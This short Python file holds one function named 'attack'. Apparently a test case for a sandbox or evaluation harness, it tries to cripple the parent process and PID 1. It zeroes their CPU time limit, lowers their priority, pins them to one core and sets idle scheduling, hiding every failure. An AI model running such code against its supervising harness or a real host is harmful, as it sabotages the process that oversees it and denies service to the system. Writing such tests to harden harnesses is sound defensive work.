"""Change the limits, the priority and the processors of the process that outlives this one."""


def attack(sample, item):
    import os
    import resource

    changed = False
    for change in (
        lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)),
        lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda pid: os.sched_setaffinity(pid, {0}),
        lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
    ):
        for pid in (1, os.getppid() or 1):
            try:
                change(pid)
                changed = True
            except Exception:
                pass
    return changed
